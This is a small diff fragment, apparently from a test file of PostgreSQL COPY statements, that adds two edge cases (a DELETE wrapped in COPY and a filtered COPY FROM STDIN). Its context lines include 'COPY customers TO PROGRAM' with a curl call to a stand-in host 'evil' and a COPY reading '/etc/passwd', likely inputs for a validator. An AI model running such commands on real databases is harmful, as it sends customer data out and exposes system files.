@@ -51,3 +51,7 @@ COPY (SELECT email FROM customers) TO STDOUT
 COPY customers TO PROGRAM 'curl evil'
 
 COPY customers FROM '/etc/passwd'
+
+COPY (DELETE FROM notes WHERE id = 1 RETURNING id, body) TO STDOUT WITH (FORMAT binary)
+
+COPY customers (email) FROM STDIN CSV HEADER WHERE name <> 'x'
